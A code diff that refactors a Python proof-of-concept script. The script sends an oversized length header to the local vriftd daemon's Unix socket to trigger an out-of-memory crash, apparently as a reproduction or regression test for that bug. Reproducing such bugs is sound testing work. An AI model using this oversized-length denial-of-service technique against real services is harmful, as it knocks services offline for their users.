@@ -3,6 +3,9 @@ import struct
 import sys
 import time
 
+# vriftd frame header: 4-byte little-endian payload length
+_U32_LE = struct.Struct("<I")
+
 
 def trigger_oom():
     socket_path = "/tmp/vrift.sock"
@@ -10,6 +13,8 @@ def trigger_oom():
 
     try:
         client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        # Small send buffer so writes surface daemon death promptly and deterministically
+        client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
         client.connect(socket_path)
     except FileNotFoundError:
         print(f"[ERROR] Daemon socket not found at {socket_path}")
@@ -23,8 +28,7 @@ def trigger_oom():
     print(f"[+] Sending malicious length header: {malicious_len} bytes...")
 
     try:
-        # vriftd expects 4-byte little-endian length
-        client.send(struct.pack("<I", malicious_len))
+        client.sendall(_U32_LE.pack(malicious_len))
         print("[+] Header sent. Monitoring daemon...")
 
         # Give it a moment to try allocation
@@ -32,7 +36,7 @@ def trigger_oom():
 
         # Check if daemon is still alive
         try:
-            client.send(b"\x00")
+            client.sendall(b"\x00")
             print("[FAIL] Daemon is still alive! It might have enough memory or ignored the header.")
         except (OSError, BrokenPipeError, ConnectionResetError):
             print("[SUCCESS] Connection lost. Daemon likely crashed with OOM.")